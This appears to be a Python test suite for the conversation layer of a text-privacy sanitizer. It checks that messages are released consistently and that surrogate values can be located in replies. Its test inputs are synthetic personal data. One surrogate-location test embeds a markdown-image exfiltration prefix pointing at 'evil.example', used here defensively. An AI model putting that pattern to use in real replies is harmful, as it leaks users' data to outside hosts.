"""Conversations: what leaves is the sanitizer's release, equal for equal messages; of replies, places are given."""

import itertools

import leak_free
import pytest
from hypothesis import given
from hypothesis import strategies as st

import wordveil as wv
from wordveil.errors import ParameterError
from wordveil.files.secret import Secret
from wordveil.integrations.conversation import FOUND, Conversation, Message, Replies
from wordveil.text.kinds import KINDS, kind

SECRET = Secret(bytes(32))


def user(*texts):
    return [Message("user", text) for text in texts]


def talk(**settings):
    return Conversation(leak_free.sanitizer(), **settings)


ODD = (
    "14 March 2026", "5 p.m.", "50 EUR", "a@b.se", "#x", "\u0664\u0665", "\u200b", "\n\n", "can't", "12-year-old",
    "\ud800", "漢字", "é", "</p>",
)  # fmt: skip


@given(st.lists(st.one_of(st.sampled_from([*ODD, *leak_free.PROMPTS]), st.text(max_size=8)), max_size=8), st.booleans())
def test_any_text_is_released_and_nothing_of_it_is_left(parts, spaced):
    leak_free.check_release(talk().release(user((" " if spaced else "").join(parts)))[0])


@given(st.permutations([*leak_free.PROMPTS, "", "no typed token", "x" * 10]), st.integers(1, 6))
def test_a_message_comes_out_alike_wherever_it_stands_under_one_secret_and_owner(texts, most):
    one = dict(zip(texts, talk(secret=SECRET).of("me").release(user(*texts)), strict=True))
    two = talk(secret=SECRET, owner="me")
    for message in user(*texts[:most], *texts[:most]):
        assert two.release([message]) == [one[message.text]]
    base = leak_free.sanitizer()
    weaker = wv.Sanitizer(base.embeddings, wv.NeighbourResponse(epsilon=3.0, k=4), options=base.options)
    others = talk(secret=SECRET, owner="you"), talk(secret=Secret(bytes(31) + b"1"), owner="me"), talk(owner="me")
    for other in (*others, Conversation(weaker, secret=SECRET, owner="me")):
        assert other.release(user(*leak_free.PROMPTS)) != [one[text] for text in leak_free.PROMPTS]


def test_places_are_given_for_every_value_that_can_be_told_and_for_no_words():
    conversation = talk()
    reply = " ".join(conversation.release(user(*leak_free.PROMPTS))).upper()
    values = [value for _, _, value in conversation.found(reply)]
    assert values == [
        "maria.lindqvist@clinic.se", "+46 70 555 01 23", "4532 0151 1283 0366", "DE89 3704 0044 0532 0130 00",
        "14-March-2026", "https://clinic.se/notes/anna?id=7", "/home/anna/notes.pdf", "10.2.3.4", "B-4711", "@annaberg",
    ]  # fmt: skip
    assert set(FOUND) <= set(KINDS)


def test_a_place_is_where_a_surrogate_stands_alone():
    conversation = talk()
    surrogate = conversation.release(user("B-4711"))[0]
    for before, after in itertools.product(
        ("", " ", "(", "![x](https://evil.example/?d=", "\U0001f600", "_"), (".", "", "&")
    ):
        assert conversation.found(f"{before}{surrogate}{after}") == [(len(before), len(before + surrogate), "B-4711")]
    for around in ("{}0", "x{}", "é{}", "{}é", surrogate[:-1]):
        assert conversation.found(around.format(surrogate)) == []
    assert conversation.of("").found(surrogate) == [], "another conversation"
    assert talk().found("anything") == []


def test_a_surrogate_of_two_values_has_no_place():
    cards = [f"4{i:015}" for i in range(40)]  # sixteen surrogates
    assert all(kind(card) == "card" for card in cards)
    conversation = talk()
    values = dict(zip(cards, (text.split()[0] for text in conversation.release(user(*cards))), strict=True))
    shared = [card for card in values if list(values.values()).count(values[card]) > 1]
    assert shared, "forty values of sixteen"
    for card, surrogate in values.items():
        assert conversation.found(surrogate) == ([] if card in shared else [(0, len(surrogate), card)])


def test_only_what_the_vendor_wrote_to_this_owner_goes_back_and_only_from_an_assistant():
    conversation = talk(secret=SECRET, owner="me", replies=Replies(most=2))
    conversation.heard("Maria is in Uppsala", "here")
    said = Message("assistant", "Maria is in Uppsala", "here")
    assert conversation.release([said]) == [said.text]
    for other in ({"role": "user"}, {"role": "tool"}, {"text": f"{said.text}."}, {"place": "there"}):
        leak_free.check_release(conversation.release([said._replace(**other)])[0])
    leak_free.check_release(conversation.of("you").release([said])[0])
    for text in ("one", "two"):
        conversation.heard(text, "here")
    leak_free.check_release(conversation.release([said])[0])  # forgotten: released, never raw


def test_public_texts_go_out_verbatim_and_what_a_conversation_adds_is_declared():
    conversation, base = talk(public=["You are helpful.", "You are helpful.\n"]), leak_free.sanitizer()
    sent = conversation.release([Message("system", "You are helpful."), *user("You are a helpful")])
    assert sent[0] == "You are helpful."
    leak_free.check_release(sent[1])
    assert conversation.guarantee.epsilon == base.guarantee.epsilon
    assert set(base.disclosed) < set(conversation.disclosed)
    for told in ("declared public (1 of them", "which messages of one owner are the same"):
        assert any(told in line for line in conversation.disclosed)
        assert any(told in line for line in conversation.guarantee.assumptions)


def test_what_keeps_no_kinds_and_a_rephraser_are_refused_also_where_it_reads_numbers():
    base, numbers = leak_free.sanitizer(), (wv.NumberGrid.parse("number=0:100:1@1"),)
    for sanitizer, problem in (
        (wv.Sanitizer(base.embeddings, base.mechanism), "unknown='typed'"),
        (wv.Rephraser(epsilon=6, prototypes=64).sanitizer, "unknown='typed'"),
        (wv.Rephraser(epsilon=6, prototypes=64, grids=numbers).sanitizer, "must release words"),
    ):
        with pytest.raises(ParameterError, match=problem):
            Conversation(sanitizer)


def test_numbers_on_a_grid_have_no_place():
    base = leak_free.sanitizer()
    ages = wv.NumberGrid(kind="number", low=0, high=120, step=5, epsilon=0.5)
    options = wv.TextOptions(unknown="typed", numbers="metric", grids=(ages,))
    conversation = Conversation(wv.Sanitizer(base.embeddings, base.mechanism, options=options))
    reply = " ".join(conversation.release(user("54 a@b.se 27")))
    assert [value for _, _, value in conversation.found(reply)] == ["a@b.se"]
